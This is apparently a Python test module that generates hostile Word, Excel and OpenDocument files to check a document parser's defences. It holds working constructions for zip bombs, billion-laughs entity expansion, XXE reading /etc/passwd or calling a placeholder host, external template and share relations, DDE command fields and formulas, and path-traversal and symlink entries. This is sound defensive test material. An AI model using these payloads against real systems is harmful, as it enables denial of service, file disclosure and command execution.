"""Word files and workbooks that mean harm, and the containers that they are."""

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from heed.kit.documents.blocks import Document, Heading, Paragraph
from heed.kit.documents.files import write
from heed.kit.documents.to_excel import Heading as Column
from heed.kit.documents.to_excel import Sheet, to_excel
from heed.kit.documents.word_styles import NAMESPACE

OUTSIDE = "http://203.0.113.7/x"  # an address for documentation (RFC 5737)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
ONE = Document((Heading("Plan"), Paragraph("It is recommended that the force rings first.")))
A_PARAGRAPH = "<w:p><w:r><w:t>It is recommended that the force rings first.</w:t></w:r></w:p>"

Parts = dict[str, bytes]


@cache
def _word() -> bytes:
    return write(ONE, ".docx")


@cache
def _workbook() -> bytes:
    return to_excel(Sheet("Plan", (Column("Number"), Column("Asked")), [(1, "Ring")]))


def parts_of(data: bytes) -> Parts:
    with ZipFile(BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def packed(parts: Parts) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(body: str = A_PARAGRAPH, *, head: str = "", **others: bytes) -> bytes:
    """A Word file with such a body; `others` are parts, with __ for / and _dot_ for a dot."""
    document = f'<?xml version="1.0"?>{head}<w:document {NAMESPACE}><w:body>{body}<w:sectPr/></w:body></w:document>'
    return packed(parts_of(_word()) | {"word/document.xml": document.encode()} | _named(others))


def workbook(cells: str = "", *, head: str = "", **others: bytes) -> bytes:
    """A workbook whose only sheet has such rows."""
    sheet = f'<?xml version="1.0"?>{head}<worksheet xmlns="{SHEET_NS}"><sheetData>{cells}</sheetData></worksheet>'
    return packed(parts_of(_workbook()) | {"xl/worksheets/sheet1.xml": sheet.encode()} | _named(others))


def _named(others: dict[str, bytes]) -> Parts:
    return {name.replace("__", "/").replace("_dot_", "."): content for name, content in others.items()}


def with_relation(kind: str, target: str, *, of: str = "word/document.xml", body: str = A_PARAGRAPH) -> bytes:
    """A Word file that points outside of itself."""
    folder, name = of.rsplit("/", 1)
    relations = f"{folder}/_rels/{name}.rels"
    parts = parts_of(word(body))
    there = parts.get(
        relations,
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
    )
    one = f'<Relationship Id="rIdX" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return packed(parts | {relations: there.replace(b"</Relationships>", one.encode())})


LAUGHS = '<!DOCTYPE x [<!ENTITY a "haha">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"  # fmt: skip
QUADRATIC = f'<!DOCTYPE x [<!ENTITY a "{"ha" * 50_000}">]>'


def external(target: str) -> str:
    return f'<!DOCTYPE x [<!ENTITY a SYSTEM "{target}">]>'


def says(what: str) -> str:
    return f"<w:p><w:r><w:t>{what}</w:t></w:r></w:p>"


def nested(opened: str, closed: str, deep: int, inner: str = A_PARAGRAPH) -> str:
    return opened * deep + inner + closed * deep


# Containers.


def overlapping(entries: int, size: int) -> bytes:
    """Many names for one and the same compressed piece."""
    piece = zlib.compress(bytes(size), 9)[2:-4]
    crc = zlib.crc32(bytes(size))
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, crc, len(piece), size, 1, 0) + b"a" + piece
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, crc, len(piece), size, 5, 0, 0, 0, 0, 0, 0)
        + b"%05d" % number
        for number in range(entries)
    )
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, entries, entries, len(central), len(local), 0)
    return local + central + end


def changed(data: bytes, name: str, **told: int) -> bytes:
    """An archive whose list says of one entry what is not so."""
    out = BytesIO()
    with ZipFile(BytesIO(data)) as whole, ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for one in whole.namelist():
            archive.writestr(one, whole.read(one))
        for field, value in told.items():
            setattr(archive.getinfo(name), field, value)
    return out.getvalue()


def many_entries(number: int) -> bytes:
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        for one in range(number):
            archive.writestr(f"word/{one}.xml", b"")
    return out.getvalue()


def linked(name: str, target: str) -> bytes:
    """A Word file with an entry that is a symbolic link."""
    out = BytesIO(_word())
    with ZipFile(out, "a") as archive:
        entry = ZipInfo(name)
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, target)
    return out.getvalue()


def twice() -> bytes:
    """A Word file with two documents under one name."""
    out = BytesIO()
    parts = parts_of(_word())
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.filelist[-1].filename = "word/document.xml"
    return out.getvalue()


def cases() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """What each does, the name it comes under, and what makes it."""
    own = "file:///" + __file__.replace("tests/hostile/office.py", "heed/kit/documents/within.py").lstrip("/")
    yield "a flat bomb", "a.docx", lambda: packed({"word/document.xml": bytes(201_000_000)})
    yield (
        "a bomb that says it is small",
        "a.docx",
        lambda: changed(word(says("x" * 20_000_000)), "word/document.xml", file_size=10),
    )
    yield "a bomb that says it has 10 GB", "a.docx", lambda: changed(word(), "word/document.xml", file_size=10**10)
    yield "an overlapping bomb", "a.docx", lambda: overlapping(2_000, 1_000_000)
    yield "an overlapping workbook", "a.xlsx", lambda: overlapping(2_000, 1_000_000)
    yield "a bomb in a bomb", "a.docx", lambda: packed(parts_of(_word()) | {"word/media/a.zip": packed({"b.zip": packed({"c": bytes(50_000_000)})})})  # fmt: skip
    yield "many entries", "a.docx", lambda: many_entries(30_000)
    yield "one long paragraph", "a.docx", lambda: word(says("x " * 20_000_000))
    yield "paragraphs without end", "a.docx", lambda: word("<w:p/>" * 4_000_000)
    yield "many paragraphs", "a.docx", lambda: word(A_PARAGRAPH * 4_000)
    yield "many runs", "a.docx", lambda: word(f"<w:p>{'<w:r><w:t>a </w:t></w:r>' * 30_000}</w:p>")
    yield "laughs", "a.docx", lambda: word(says("&j;"), head=LAUGHS)
    yield "a long laugh", "a.docx", lambda: word(says("&a;" * 20_000), head=QUADRATIC)
    yield (
        "laughs in the styles",
        "a.docx",
        lambda: word(word__styles_dot_xml=f"{LAUGHS}<w:styles {NAMESPACE}>&j;</w:styles>".encode()),
    )
    yield "laughs in the list of types", "a.docx", lambda: packed(parts_of(_word()) | {"[Content_Types].xml": f"{LAUGHS}<Types>&j;</Types>".encode()})  # fmt: skip
    yield "a file of the disk", "a.docx", lambda: word(says("&a;"), head=external("file:///etc/passwd"))
    yield "a file that can be read", "a.docx", lambda: word(says("&a;"), head=external(own))
    yield "an entity outside", "a.docx", lambda: word(says("&a;"), head=external(OUTSIDE))
    yield "a definition outside", "a.docx", lambda: word(head=f'<!DOCTYPE x SYSTEM "{OUTSIDE}">')
    yield "a parameter outside", "a.docx", lambda: word(head=f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{OUTSIDE}"> %a;]>')
    yield "an inclusion", "a.docx", lambda: word(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{own}" parse="text"/>{A_PARAGRAPH}')  # fmt: skip
    yield "a stylesheet", "a.docx", lambda: word(head=f'<?xml-stylesheet type="text/xsl" href="{OUTSIDE}"?>')
    yield "a template outside", "a.docx", lambda: with_relation("attachedTemplate", OUTSIDE, of="word/settings.xml")
    yield "a picture outside", "a.docx", lambda: with_relation("image", OUTSIDE)
    yield "an object outside", "a.docx", lambda: with_relation("oleObject", f"{OUTSIDE}.doc")
    yield "a share outside", "a.docx", lambda: with_relation("frame", r"\\203.0.113.7\share\x")
    yield "a piece outside", "a.docx", lambda: with_relation("aFChunk", OUTSIDE, body=f'<w:altChunk xmlns:r="{OFFICE}" r:id="rIdX"/>{A_PARAGRAPH}')  # fmt: skip
    yield "a document outside", "a.docx", lambda: with_relation("subDocument", "file:///etc/passwd")
    yield "macros", "a.docx", lambda: word(word__vbaProject_dot_bin=b"Sub AutoOpen()")
    yield "a field that runs", "a.docx", lambda: word(f'<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></w:p>{A_PARAGRAPH}')  # fmt: skip
    yield "tables in tables", "a.docx", lambda: word(nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 3_000))
    yield (
        "controls in controls",
        "a.docx",
        lambda: word(nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 100_000)),
    )
    yield "a wide cell", "a.docx", lambda: word("<w:tbl>" + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc></w:tr>' * 2000 + f"</w:tbl>{A_PARAGRAPH}")  # fmt: skip
    yield "a cell merged down", "a.docx", lambda: word(f'<w:tbl>{"<w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc></w:tr>" * 8_000}</w:tbl>{A_PARAGRAPH}')  # fmt: skip
    yield "a number that is none", "a.docx", lambda: word('<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="x"/></w:tcPr><w:p/></w:tc></w:tr></w:tbl>')  # fmt: skip
    yield (
        "styles in a ring",
        "a.docx",
        lambda: word(
            '<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>It is so.</w:t></w:r></w:p>',
            word__styles_dot_xml=f'<w:styles {NAMESPACE}><w:style w:type="paragraph" w:styleId="A"><w:name w:val="A"/><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:name w:val="B"/><w:basedOn w:val="A"/></w:style></w:styles>'.encode(),
        ),
    )
    yield (
        "a bad letter",
        "a.docx",
        lambda: packed(parts_of(_word()) | {"word/document.xml": b"<w:document>\xff\xfe\0</w:document>"}),
    )
    yield "a long attribute", "a.docx", lambda: word(f'<w:p w:rsidR="{"A" * 11_000_000}"/>{A_PARAGRAPH}')
    yield "names that climb", "a.docx", lambda: packed(parts_of(_word()) | {"../../../tmp/escaped": b"x", "/etc/cron.d/x": b"x", "word/..\\..\\x": b"x"})  # fmt: skip
    yield "a relation that climbs", "a.docx", lambda: packed(parts_of(_word()) | {"_rels/.rels": parts_of(_word())["_rels/.rels"].replace(b"word/document.xml", b"../../../../etc/passwd")})  # fmt: skip
    yield "a link to the disk", "a.docx", lambda: linked("word/media/x", "/etc/passwd")
    yield "two of one name", "a.docx", twice
    yield "an entry under a password", "a.docx", lambda: changed(word(), "word/document.xml", flag_bits=1)
    yield "an unknown compression", "a.docx", lambda: changed(word(), "word/document.xml", compress_type=99)
    yield "an entry past the end", "a.docx", lambda: changed(word(), "word/document.xml", header_offset=2**31)
    yield "half of it", "a.docx", lambda: _word()[: len(_word()) // 2]
    yield "an old container", "a.docx", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 4_000
    yield "a container under a password, damaged", "a.docx", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\xff" * 4_000 + "EncryptedPackage".encode("utf-16-le")  # fmt: skip
    yield "a workbook's bomb", "a.xlsx", lambda: workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>' + "x" * 60_000_000 + "</t></is></c></row>")  # fmt: skip
    yield "a workbook's laughs", "a.xlsx", lambda: workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>&j;</t></is></c></row>', head=LAUGHS)  # fmt: skip
    yield "a workbook's file", "a.xlsx", lambda: workbook('<row r="1"><c r="A1" t="inlineStr"><is><t>&a;</t></is></c></row>', head=external(own))  # fmt: skip
    yield "laughs among its words", "a.xlsx", lambda: workbook(xl__sharedStrings_dot_xml=f'{LAUGHS}<sst xmlns="{SHEET_NS}"><si><t>&j;</t></si></sst>'.encode())  # fmt: skip
    yield "two far corners", "a.xlsx", lambda: workbook('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')  # fmt: skip
    yield "corners that are not told", "a.xlsx", lambda: workbook(f'<row r="1">{"<c><v>1</v></c>" * 3_000}</row>')
    yield (
        "a row beyond all rows",
        "a.xlsx",
        lambda: workbook('<row r="4294967297"><c r="A4294967297"><v>1</v></c></row>'),
    )
    yield "a word that is not there", "a.xlsx", lambda: workbook('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>')
    yield (
        "a formula that runs",
        "a.xlsx",
        lambda: workbook('<row r="1"><c r="A1"><f>cmd|\' /C calc\'!A0</f><v>1</v></c></row>'),
    )
    yield "a workbook's macros", "a.xlsm", lambda: workbook('<row r="1"><c r="A1"><v>1</v></c></row>', xl__vbaProject_dot_bin=b"Sub Auto_Open()")  # fmt: skip
    yield "half a workbook", "a.xlsx", lambda: _workbook()[: len(_workbook()) // 2]
    yield "an old workbook, damaged", "a.xls", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\x09\x08" * 3_000
    for ending in (".ods", ".odt"):
        kind = f"application/vnd.oasis.opendocument.{'spreadsheet' if ending == '.ods' else 'text'}".encode()
        content = f'<?xml version="1.0"?>{LAUGHS}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">&j;</office:document-content>'.encode()  # fmt: skip
        yield (
            f"laughs in {ending}",
            f"a{ending}",
            lambda kind=kind, content=content: packed({"mimetype": kind, "content.xml": content}),
        )
    table = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:spreadsheet><table:table table:name="a"><table:table-row table:number-rows-repeated="1000000000"><table:table-cell table:number-columns-repeated="1000000000" office:value-type="float" office:value="1"/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>'  # fmt: skip
    yield "cells repeated without end", "a.ods", lambda: packed({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": table.encode()})  # fmt: skip
